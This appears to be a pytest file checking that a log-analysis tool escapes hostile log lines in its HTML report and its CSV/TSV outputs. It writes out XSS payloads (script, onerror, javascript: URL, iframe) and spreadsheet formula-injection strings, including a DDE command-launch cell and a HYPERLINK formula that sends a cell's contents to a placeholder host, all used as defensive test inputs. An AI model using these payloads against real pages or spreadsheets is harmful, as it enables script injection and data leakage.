"""Hostile log text: it shows literally in the HTML report and runs nowhere; CSV and TSV cells can't become formulas."""
import csv
import os
import subprocess
import sys
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest

from conftest import ROOT, run_chromium
from logad_utils.cli import main
from logad_utils.datasets import write_log
from logad_utils.projector import export_projector, metadata_frame
from logad_utils.report import ReportContent, render_report
from logad_utils.spreadsheet import escape_cell, escape_formulas

# Each would change the page if it ran: a title, an attribute, a new element, a dialog.
PAYLOADS = [
    '<script>document.title="PWNED";alert(1)</script>',
    '<img src=x onerror="document.body.setAttribute(\'data-pwned\',1);alert(2)">',
    "javascript:alert(document.domain)",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)",
    "</code></td></tr></table><iframe src=javascript:alert(5)>",
]
FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


class _Dom(HTMLParser):
    """Elements (tag, attrs) and visible text of an HTML document."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def assert_inert(markup: str) -> _Dom:
    """No element or attribute that a payload could have made, and the page title untouched.

    The report's own map (one JSON data block, one script, one svg and what that script draws
    inside it) is allowed; any other script, svg, iframe or link is not.
    """
    dom = _Dom(markup)
    scripts = [attrs for tag, attrs in dom.elements if tag == "script"]
    assert scripts in ([], [{"type": "application/json", "id": "logad-map-data"}, {}]), scripts
    assert [attrs.get("id") for tag, attrs in dom.elements if tag == "svg"] in ([], ["logad-map"])
    assert not {tag for tag, _ in dom.elements} & {"iframe", "a"}
    for tag, attrs in dom.elements:
        assert not any(name.startswith("on") or name == "data-pwned" for name in attrs), (tag, attrs)
        if tag == "img":
            assert attrs["src"].startswith("data:image/png;base64,")
    assert "PWNED" not in "".join(t for (tag, _), t in zip(dom.elements, dom.text) if tag == "title")
    return dom


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """``logad analyze`` over a normal log with hostile lines in the middle (rare, so they are reported)."""
    root = tmp_path_factory.mktemp("hostile")
    log, _ = write_log(root / "base.jrn", n_lines=3000, seed=11)
    lines = log.read_text().splitlines()
    hostile = [f"12:00:{i:02d}  {9000 + i:04d} HOST login failed for user {p}" for i, p in enumerate(PAYLOADS)]
    hostile += [f"12:01:{i:02d}  {9100 + i:04d} HOST {f}" for i, f in enumerate(FORMULAS)]
    path = root / "hostile.log"
    path.write_text("\n".join(lines[:1500] + hostile * 3 + lines[1500:]) + "\n")
    assert main(["analyze", str(path), "--method", "tfidf", "--out", str(root / "out")]) == 0
    return root / "out"


def test_report_escapes_every_piece_of_log_text(hostile_run):
    markup = (hostile_run / "report.html").read_text()
    text = "".join(assert_inert(markup).text)
    # Rare lines are reported as evidence; their text shows literally, markup and all.
    assert 'login failed for user <script>document.title="PWNED"' in text


def test_rendered_fields_are_all_escaped():
    hostile = " | ".join(PAYLOADS)
    templates = pd.DataFrame({"template": PAYLOADS, "z": np.arange(len(PAYLOADS), dtype=float)})
    content = ReportContent(title=hostile, summary={hostile: hostile}, notes=[hostile], top_templates=templates,
                            projector_runs=[(hostile, hostile)])
    text = "".join(assert_inert(render_report(content)).text)
    # title (twice: <title> and <h1>), summary key and value, note, projector run name and command
    assert text.count(hostile) == 7 and all(p in text for p in PAYLOADS)


def test_nothing_runs_in_a_real_browser(chromium, hostile_run, tmp_path):
    proc = run_chromium(chromium, tmp_path / "profile", "--dump-dom", (hostile_run / "report.html").as_uri())
    assert proc.returncode == 0 and "<main>" in proc.stdout
    dom = assert_inert(proc.stdout)  # the DOM after the page loaded: nothing added or changed it
    assert '<script>document.title="PWNED"' in "".join(dom.text)
    ran = [line for line in proc.stderr.splitlines() if "CONSOLE" in line or "Uncaught" in line or "alert" in line]
    assert not ran, ran


@pytest.mark.parametrize("ci, code, outcome", [("true", 1, "CI is set but no Chromium"), ("", 0, "1 skipped")])
def test_without_a_browser_the_browser_test_fails_under_ci_and_skips_elsewhere(tmp_path, ci, code, outcome):
    env = {**os.environ, "PATH": str(tmp_path), "CI": ci}  # no chromium on this PATH
    proc = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                           f"{__file__}::test_nothing_runs_in_a_real_browser"], env=env, cwd=ROOT,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == code and outcome in proc.stdout, proc.stdout[-2000:]


def test_formula_cells_are_escaped_in_every_spreadsheet_output(hostile_run):
    for name in ("anomalies.csv", "incidents.csv"):
        with open(hostile_run / name, newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()], name
    anomalies = pd.read_csv(hostile_run / "anomalies.csv")
    assert anomalies["template"].str.startswith("'").any()
    meta = (hostile_run / "projector" / "tfidf" / "metadata.tsv").read_text(encoding="utf-8").splitlines()
    cells = [cell for line in meta for cell in line.split("\t")]
    assert "'-2+3" in cells and not [c for c in cells if c.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=x", "'\t=x"),
    ("\r=x", "'\r=x"), ("-3", "-3"), ("+1.5e3", "+1.5e3"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
])
def test_escape_cell(cell, expected):
    assert escape_cell(cell) == expected


def test_escape_formulas_touches_only_text_and_can_be_turned_off(tmp_path):
    frame = pd.DataFrame({"text": ["=1+1", "ok", None], "score": [-1.5, 2.0, 3.0],
                          "cat": pd.Categorical(["@x", "y", "y"])})
    out = escape_formulas(frame)
    assert out["text"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["text"].iloc[2])
    assert out["score"].tolist() == [-1.5, 2.0, 3.0] and out["cat"].tolist() == ["'@x", "y", "y"]
    assert frame["text"].iloc[0] == "=1+1"  # the input is left alone
    # Column names too (a JSON log's keys), and two that escape alike ("=x", "'=x") are no error.
    named = escape_formulas(pd.DataFrame([["=a", "b"]], columns=["=x", "'=x"]))
    assert named.columns.tolist() == ["'=x", "'=x"] and named.iloc[0].tolist() == ["'=a", "b"]
    log = tmp_path / "f.log"
    log.write_text("".join(f"INFO =cmd|' /C calc'!A{i}\n" for i in range(3)))
    for flag, first in ([], "'="), (["--keep-formulas"], "="):
        assert main(["parse", str(log), "--format", "<Level> <Content>", "--out", str(tmp_path / "p.csv"), *flag]) == 0
        assert pd.read_csv(tmp_path / "p.csv")["content"].str.startswith(first).all()


def test_projector_metadata_escapes_formulas_unless_asked_not_to(tmp_path):
    # A leading tab or CR is already written as the two characters \t or \r, which run nothing.
    frame = pd.DataFrame({"content": FORMULAS[:4], "line_no": range(1, 5), "source": ["=a.log"] * 4})
    for safe in (True, False):
        export = export_projector(np.eye(4), metadata_frame(frame, scores=-np.arange(4.0)), tmp_path, f"r{safe}",
                                  safe_formulas=safe)
        rows = [line.split("\t") for line in export.metadata_path.read_text(encoding="utf-8").splitlines()[1:]]
        assert [(r[0][0] == "'", r[2][0] == "'") for r in rows] == [(safe, safe)] * 4
        assert rows[1][6] == "-1"  # numbers stay numbers


def test_a_file_names_direction_override_in_a_note_is_shown_not_obeyed():
    # A file named "a\u202egol.log" reversed the rest of its note: the line number and the words after it.
    note = "12 line(s) without a readable time (the first at a\u202egol.log:6); they carry no timestamp"
    page = render_report(ReportContent(title="t", summary={}, notes=[note]))
    assert "\u202e" not in page and "a\\u202egol.log:6" in page
